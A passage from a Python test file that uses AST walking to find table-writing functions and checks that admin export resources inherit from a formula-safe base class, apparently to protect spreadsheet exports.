                    (c.func.attr if isinstance(c.func, ast.Attribute) else getattr(c.func, "id", ""))
                    for c in ast.walk(node)
                    if isinstance(c, ast.Call)
                }
                if calls & TABLE_WRITERS:
                    found.add(name)
    return found


def _scopes(tree: ast.AST, prefix: str) -> Iterable[tuple[str, ast.AST]]:
    for node in ast.iter_child_nodes(tree):
        if isinstance(node, ast.ClassDef):
            yield from _scopes(node, f"{prefix}.{node.name}")
        elif isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
            yield f"{prefix}.{node.name}", node


def test_every_function_that_writes_a_table_is_walked():
    found = _table_writing_functions()

    assert found, "found no table writer at all: is the discovery still looking in the right place?"
    assert found <= set(WALKED), f"walk these in this module: {sorted(found - set(WALKED))}"


def test_every_admin_resource_is_formula_safe_by_its_base():
    from assessments.resources import FormulaSafeResource

    resources = {
        resource
        for _label, model_admin in _exporting_admins()
        for resource in model_admin.get_export_resource_classes(None)
    }

    assert resources and all(issubclass(r, FormulaSafeResource) for r in resources)
